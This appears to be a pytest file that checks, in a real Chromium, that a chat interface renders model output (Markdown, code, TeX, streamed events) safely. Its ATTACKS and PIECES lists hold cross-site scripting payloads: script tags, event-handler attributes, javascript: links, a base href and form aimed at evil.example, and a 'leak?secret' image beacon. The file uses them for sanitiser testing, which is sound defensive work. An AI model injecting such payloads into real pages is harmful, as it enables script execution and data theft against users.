"""What a model writes becomes: Markdown, code, maths, and never script. In a real Chromium, under the page's policy."""

from __future__ import annotations

import random

import pytest

from tests.serve.browser import Fake, chromium, module, opened, say, text_chunks


@pytest.fixture(scope="module")
def page():
    """One page for all: these tests leave nothing behind."""
    fake = Fake()
    with chromium() as browser, opened(browser, fake.url) as page:
        page.fake = fake
        yield page
    fake.close()


RENDER = "({renderMarkdown}, text) => renderMarkdown(text).innerHTML"

# Each source and the HTML that stands for the nodes it becomes. h1 and h2 are the page's own.
MARKDOWN = [
    ("plain", "<p>plain</p>"),
    ("a\nb", "<p>a\nb</p>"),
    ("a  \nb", "<p>a<br>b</p>"),
    ("a\\\nb", "<p>a<br>b</p>"),
    ("a\n\nb", "<p>a</p><p>b</p>"),
    ("# One", '<h3 class="level-1">One</h3>'),
    ("### Three ###", '<h5 class="level-3">Three</h5>'),
    ("#hash", "<p>#hash</p>"),
    ("Title\n---", '<h4 class="level-2">Title</h4>'),
    ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
    (
        "*a* _b_ **c** __d__ ***e***",
        "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <em><strong>e</strong></em></p>",
    ),
    ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
    ("snake_case_name 2*3*4", "<p>snake_case_name 2<em>3</em>4</p>"),
    ("a * b * c", "<p>a * b * c</p>"),
    ("~~gone~~ ~kept~", "<p><del>gone</del> ~kept~</p>"),
    ("`a*b*` ``c`d``", "<p><code>a*b*</code> <code>c`d</code></p>"),
    ("`open", "<p>`open</p>"),
    (r"\*not\* \_it\_", "<p>*not* _it_</p>"),
    ("&amp; &lt;b&gt; &#233; &nosuch;", "<p>&amp; &lt;b&gt; é &amp;nosuch;</p>"),
    ("<b>bold</b> a<br>b", "<p>&lt;b&gt;bold&lt;/b&gt; a<br>b</p>"),
    ("> a\n> b\nlazy\n\nout", "<blockquote><p>a\nb\nlazy</p></blockquote><p>out</p>"),
    ("> - a\n> - b", "<blockquote><ul><li>a</li><li>b</li></ul></blockquote>"),
    ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
    ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("- a\n  - b\n    - c\n- d", "<ul><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li><li>d</li></ul>"),
    ("1. a\n  - b\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
    ("1. a\n\n   more\n2. b", "<ol><li><p>a</p><p>more</p></li><li><p>b</p></li></ol>"),
    ("- a\n* b", "<ul><li>a</li></ul><ul><li>b</li></ul>"),
    ("text\n- a", "<p>text</p><ul><li>a</li></ul>"),
    ("it was\n1999. A year", "<p>it was\n1999. A year</p>"),
    ("| a | b |\n|---|--:|\n| 1 | 2 |", "TABLE"),
    ("a | b\nno delimiter", "<p>a | b\nno delimiter</p>"),
    ("see https://example.org/a_b_c.", "LINK"),
]
SPECIAL = {
    "TABLE": '<div class="table" tabindex="0" role="group" aria-label="Table"><table><thead><tr>'
    '<th class="start" scope="col">a</th><th class="end" scope="col">b</th></tr></thead>'
    '<tbody><tr><td class="start">1</td><td class="end">2</td></tr></tbody></table></div>',
    "LINK": '<p>see <a href="https://example.org/a_b_c" title="https://example.org/a_b_c" target="_blank" '
    'rel="noopener noreferrer nofollow">https://example.org/a_b_c</a>.</p>',
}


def test_markdown_becomes_the_nodes_it_means(page):
    for source, expected in MARKDOWN:
        assert module(page, "markdown.js", RENDER, source) == SPECIAL.get(expected, expected), source


CORPUS = """# Heading

A paragraph with *emphasis*, `code`, $x^2$, **bold _and_ more** and [a link](https://example.org "t").
Its second line.

Under
=====

- one
- two

  more of two
- three
    1. deep
    2. deeper

2. not one
10) other

> quoted
> ```c
> int x; /* open
> comment */
> ```

| a | b |
|---|:-:|
| `1` | 2 \\| 3 |

```python
def f():
    '''a
    b'''
    return 1

```
$$
\\frac{1}{2}
$$
text \\(a\\) and \\[b\\] and $$c$$

\\[ x
+ y \\]
~~~
never closed
  still
"""


def test_streaming_in_any_pieces_gives_the_same_nodes_as_drawing_at_once(page):
    """At every prefix, a growing view equals a fresh one; at the end, the whole text drawn at once."""
    code = """({Markdown, renderMarkdown}, [text, sizes]) => {
      const flat = (node) => {
        const copy = node.cloneNode(true);
        copy.querySelectorAll(".open").forEach((open) => open.replaceWith(...open.childNodes));
        return copy.innerHTML;
      };
      const view = new Markdown(document.createElement("div"));
      const blocks = [];
      view.onBlock = (node) => blocks.push(node);
      let at = 0, k = 0, different = [];
      while (at < text.length) {
        at = Math.min(text.length, at + sizes[k++ % sizes.length]);
        const fresh = new Markdown(document.createElement("div"));
        view.set(text.slice(0, at));
        fresh.set(text.slice(0, at));
        if (flat(view.container) !== flat(fresh.container)) different.push(at);
      }
      const settled = [...blocks];
      view.set(text, true);
      return {
        different,
        end: view.container.innerHTML === renderMarkdown(text).innerHTML,
        kept: settled.every((node) => view.container.contains(node)),
        settled: settled.length,
      };
    }"""
    for sizes in ([1], [3, 1, 7], [40]):
        result = module(page, "markdown.js", code, [CORPUS, sizes])
        assert result["different"] == []
        assert result["end"]
        assert result["kept"], "a block that was final was drawn again"
        assert result["settled"] > 8


PIECES = [
    *"*_~`[]()<>!#|$\\&-+. \n\n\nab1",
    "**", "```", "$$", "\\(", "\\)", "\\[", "\\]", "](", "](javascript:alert(1))", "](https://a.b)", "![", "\n- ",
    "\n1. ", "\n> ",
    "\n|a|b|\n|-|-|\n", "\n---\n", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "&#x6a;", "\\frac{", "}",
    "{", "^", "_",
    "\\begin{matrix}", "\\end{matrix}", "\\text{", "\\left(", "\\href{javascript:alert(1)}{x}", "    ", "\t", "😀", "\u202e", "\0",
]  # fmt: skip
ALLOWED = """({renderMarkdown, Markdown}, texts) => {
  const tags = new Set(("a annotation b blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr li math mfrac mi " +
    "mn mo mover mphantom mroot mrow mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover ol p path pre " +
    "semantics span strong svg table tbody td th thead tr ul").split(" "));
  const names = new Set(("accent aria-hidden aria-label class d display displaystyle encoding fence href linethickness " +
    "mathvariant movablelimits rel role scope start stretchy tabindex target title type viewBox width").split(" "));
  const bad = [];
  for (const text of texts) {
    const whole = renderMarkdown(text);
    const pieces = new Markdown(document.createElement("div"));
    for (let at = 0; at < text.length; at += 5) pieces.set(text.slice(0, at));
    pieces.set(text, true);
    if (pieces.container.innerHTML !== whole.innerHTML) bad.push(["pieces differ", text]);
    for (const node of whole.querySelectorAll("*")) {
      if (!tags.has(node.localName)) bad.push([node.localName, text]);
      for (const {name, value} of node.attributes) {
        if (!names.has(name)) bad.push([name, text]);
        if (name === "href" && !/^(https?|mailto):/.test(value)) bad.push([value, text]);
      }
    }
  }
  return bad;
}"""


def test_random_hostile_text_gives_only_known_tags_and_attributes_in_any_pieces(page):
    rng = random.Random(20)
    texts = ["".join(rng.choice(PIECES) for _ in range(rng.randrange(1, 60))) for _ in range(1500)]
    assert module(page, "markdown.js", ALLOWED, texts) == []


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img srcset='https://evil.example/x 1x' src=x>",
    "[click](javascript:alert(1)) [c](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [c](&#106;avascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:x) [f](file:///etc/passwd) [b](blob:x)",
    "![pixel](https://evil.example/leak?secret) ![x](javascript:alert(1)) ![d](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)> <https://a.example/\"onmouseover=alert(1)>",
    '[a](https://a.example/"onmouseover="alert(1)) [b](<https://a.example/ onclick=alert(1)>)',
    '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
    "| <img src=x onerror=alert(1)> | `<script>` |\n|---|---|\n| <svg/onload=alert(1)> | x |",
    r"$\text{<img src=x onerror=alert(1)>}$ $\href{javascript:alert(1)}{x}$ $\mathrm{<script>alert(1)</script>}$",
    r"$$\begin{matrix}<maction actiontype=statusline xlink:href=javascript:alert(1)>\end{matrix}$$ $\style{color:red}{x}$",
    "<math><mtext></mtext><mglyph><style><!--</style><img src onerror=alert(1)>",
    "</code></pre></div><script>alert(1)</script><form action=https://evil.example><input name=a autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example><link href=//evil>",
    "# <a href=javascript:alert(1)>h</a>\n> <b onclick=alert(1)>q</b>\n- <details open ontoggle=alert(1)>",
]  # fmt: skip


def test_attacks_in_an_answer_its_reasoning_and_its_errors_stay_text(page):
    """No dialog, no request elsewhere, no breach of the policy: the fixture's watch sees to that as it closes."""
    fake = page.fake
    attack = "\n\n".join(ATTACKS)
    call = {"index": 0, "function": {"name": ATTACKS[0], "arguments": ATTACKS[1]}}
    thought = {"choices": [{"index": 0, "delta": {"reasoning_content": attack, "tool_calls": [call]}}]}
    fake.script.append([thought, *text_chunks(attack, 23)])
    say(page, attack)
    page.locator(".turn.assistant .reasoning summary").click()
    found = page.evaluate(
        """() => {
          const tags = /^(script|iframe|img|form|object|embed|link|meta|base|style|video|audio|foreignobject)$/;
          const harmful = ({name, value}) =>
            /^on|^style$|src/i.test(name) || (name === "href" && !/^(https?|mailto):/.test(value));
          return [...document.querySelectorAll("#turns *")].flatMap((node) => [
            ...(tags.test(node.localName) ? [node.localName] : []),
            ...[...node.attributes].filter(harmful).map(({name, value}) => `${name}=${value}`),
          ]);
        }"""
    )
    assert found == []
    text = page.locator(".turn.assistant .prose").last.inner_text()
    assert "<script>alert(1)</script>" in text
    assert "Image: pixel" in text
    assert page.locator('a[href="https://evil.example/leak?secret"][rel~="noopener"]').count() >= 1
    fake.script.append([{"error": {"message": ATTACKS[1]}}])
    say(page, "again")
    assert ATTACKS[1] in page.locator(".turn.assistant .notice").last.inner_text()
    page.evaluate(
        "() => document.querySelectorAll('#turns a').forEach((a) => a.dispatchEvent(new MouseEvent('mouseover')))"
    )


def test_code_is_coloured_and_its_text_is_kept(page):
    code = """({CodeLines}, [lang, lines]) => {
      const node = document.createElement("code");
      const view = new CodeLines(node, lang);
      for (let n = 1; n <= lines.length; n++) view.set(lines.slice(0, n));
      const classes = [...node.querySelectorAll("span[class^=hl]")].map((s) => [s.className.slice(3), s.textContent]);
      return [node.textContent, classes];
    }"""
    cases = {
        "python": (
            ['x = """a', 'b"""  # c', "def f(): return None"],
            ["string", '"""a'],
            ["comment", "# c"],
            ["keyword", "def"],
            ["call", "f"],
        ),
        "js": (
            ["let a = `x", "y`; /* b", "*/ f(1)"],
            ["string", "`x"],
            ["comment", "/* b"],
            ["keyword", "let"],
            ["number", "1"],
        ),
        "c": (
            ["#include <stdio.h>", "int main(void) { return 0; } // end"],
            ["call", "#include <stdio.h>"],
            ["comment", "// end"],
        ),
        "json": (['{"key": [1, true, "v"]}'], ["call", '"key"'], ["constant", "true"], ["string", '"v"']),
        "bash": (
            ["for f in *.py; do echo $f --all; done # x"],
            ["keyword", "for"],
            ["constant", "$f"],
            ["comment", "# x"],
        ),
        "html": (["<!-- a", '--><p class="b">c</p>'], ["comment", "<!-- a"], ["keyword", "<p"], ["string", '"b"']),
        "zig": (['const x = "s"; // c'], ["string", '"s"'], ["comment", "// c"]),
    }
    for lang, (lines, *expected) in cases.items():
        text, classes = module(page, "highlight.js", code, [lang, lines])
        assert text == "\n".join(lines), lang
        for pair in expected:
            assert pair in classes, (lang, pair, classes)


# TeX and what its MathML must contain, tags without attributes.
MATHS = [
    (r"\frac{a}{b}", "<mfrac><mi>a</mi><mi>b</mi></mfrac>"),
    (r"\sqrt{x} + \sqrt[3]{y}", "<msqrt><mi>x</mi></msqrt><mo>+</mo><mroot><mi>y</mi><mn>3</mn></mroot>"),
    (r"x_i^2", "<msubsup><mi>x</mi><mi>i</mi><mn>2</mn></msubsup>"),
    (r"f''(x)", "<msup><mi>f</mi><mo>′′</mo></msup>"),
    (r"\alpha + \Omega", "<mi>α</mi><mo>+</mo><mi>Ω</mi>"),
    (r"\sum_{i=1}^{n} i", "<munderover><mo>∑</mo><mrow><mi>i</mi><mo>=</mo><mn>1</mn></mrow><mi>n</mi></munderover>"),
    (r"\int_0^1 x\,dx", "<msubsup><mo>∫</mo><mn>0</mn><mn>1</mn></msubsup>"),
    (r"\lim_{x \to 0}", "<munder><mo>lim</mo><mrow><mi>x</mi><mo>→</mo><mn>0</mn></mrow></munder>"),
    (r"\begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}", "<mtr><mtd><mn>3</mn></mtd><mtd><mn>4</mn></mtd></mtr>"),
    (r"\begin{cases} 1 & x > 0 \\ 0 & \text{else} \end{cases}", "<mtext>else</mtext>"),
    (r"\begin{aligned} a &= b \\ &= c \end{aligned}", "<mtable>"),
    (r"\boxed{42}", "<mrow><mn>42</mn></mrow>"),
    (r"\left( \frac{1}{2} \right]", "<mo>(</mo><mfrac><mn>1</mn><mn>2</mn></mfrac><mo>]</mo>"),
    (r"\operatorname{softmax}(z)", "<mi>softmax</mi>"),
    (r"\mathbb{R}^n \mathcal{L} \mathbf{x}", "<msup><mi>ℝ</mi><mi>n</mi></msup><mi>ℒ</mi><mi>𝐱</mi>"),
    (r"\hat{y} \bar{x} \vec{v}", "<mover><mi>y</mi><mo>^</mo></mover>"),
    (r"10{,}000 \le 3.14", "<mn>3.14</mn>"),
    (r"a \not= b \neq c", "<mo>≠</mo><mi>b</mi><mo>≠</mo>"),
    (r"\binom{n}{k} \pmod{7}", "<mfrac><mi>n</mi><mi>k</mi></mfrac>"),
    (r"\underbrace{a+b}_{c}", "<munder>"),
    (r"a = 1 \\ b = 2", "<mtable>"),
    (r"P(A \mid B) = \{ x : x \in A \}", "<mo>∣</mo>"),
]
REFUSED = [
    r"\unknown{x}",
    r"\frac{a}",
    "x^",
    "}",
    r"a & b & \\",
    "{" * 60 + "}" * 60,
    r"\begin{tikz}\end{tikz}",
    "x" * 5000,
    r"\left( x",
    "a^b^c",
]


def test_tex_becomes_mathml_and_keeps_its_source(page):
    code = """({mathsNode}, tex) => {
      const node = mathsNode(tex, true);
      const strip = (html) => html.replaceAll(/ [a-z-]+="[^"]*"/g, "");
      return [node.localName, node.namespaceURI, strip(node.outerHTML), node.querySelector("annotation")?.textContent];
    }"""
    for tex, expected in MATHS:
        name, space, html, source = module(page, "maths.js", code, tex)
        assert (name, space) == ("math", "http://www.w3.org/1998/Math/MathML"), tex
        assert expected in html, (tex, html)
        assert source == tex


def test_tex_beyond_the_subset_is_shown_as_its_source(page):
    code = (
        "({mathsNode}, tex) => { const n = mathsNode(tex, false); return [n.localName, n.className, n.textContent]; }"
    )
    for tex in REFUSED:
        if tex != r"a & b & \\":  # an alignment without an environment is one
            assert module(page, "maths.js", code, tex) == ["code", "maths-source", tex]


def test_formulas_are_found_and_money_is_not_one(page):
    code = """({renderMarkdown}, text) => [...renderMarkdown(text).querySelectorAll("annotation")].map((a) => a.textContent)"""
    cases = {
        "$x$ and \\(y\\)": ["x", "y"],
        "costs $5 and $10": [],
        "a $5-$10 range": [],
        "\\[ a \\]": ["a"],
        "$$\nb\n$$": ["b"],
        "in $$c$$ line": ["c"],
        "`$code$`": [],
        "\\$x\\$": [],
        "- $d$\n- e": ["d"],
        "| $f$ | g |\n|--|--|": ["f"],
        "**$h$**": ["h"],
        "$$ never closed\n\nnext": [],
    }
    for text, expected in cases.items():
        assert module(page, "markdown.js", code, text) == expected, text


def test_hostile_lengths_are_drawn_without_deep_trees(page):
    """The browser's stack is no limit that a text can reach."""
    code = """({renderMarkdown}, text) => {
      let depth = 0;
      for (const node of renderMarkdown(text).querySelectorAll("*")) {
        let up = 0;
        for (let n = node; n; n = n.parentElement) up += 1;
        depth = Math.max(depth, up);
      }
      return depth;
    }"""
    bold = "**" * 3000
    texts = [
        "> " * 3000 + "a",
        "- " * 3000 + "a",
        "*a " * 3000,
        "[" * 5000,
        bold + "a" + bold,
        "`" * 5000 + "a",
        "$" * 5000,
    ]
    texts += ["\\(" * 3000, "[a](" * 2000, "<" * 5000, "$" + "{" * 3000 + "$", "&" * 5000, "*a_b" * 2000]
    texts.append("*a **b " * 300 + "c** d* " * 300)
    for text in [*texts, "|" * 4000 + "\n" + "|-" * 4000]:
        assert module(page, "markdown.js", code, text) < 60, text[:10]


def test_server_sent_events_are_read_in_any_pieces(page):
    code = """({EventReader}, [text, size]) => {
      const reader = new EventReader(), events = [];
      for (let i = 0; i < text.length; i += size) events.push(...reader.push(text.slice(i, i + size)));
      return events;
    }"""
    text = ': hello\n\ndata: {"a": 1}\n\ndata:two\r\n\r\n: keep-alive\n\nevent: x\ndata: l1\ndata: l2\n\ndata: cut'
    for size in range(1, 40):
        assert module(page, "api.js", code, [text, size]) == ['{"a": 1}', "two", "l1\nl2"]
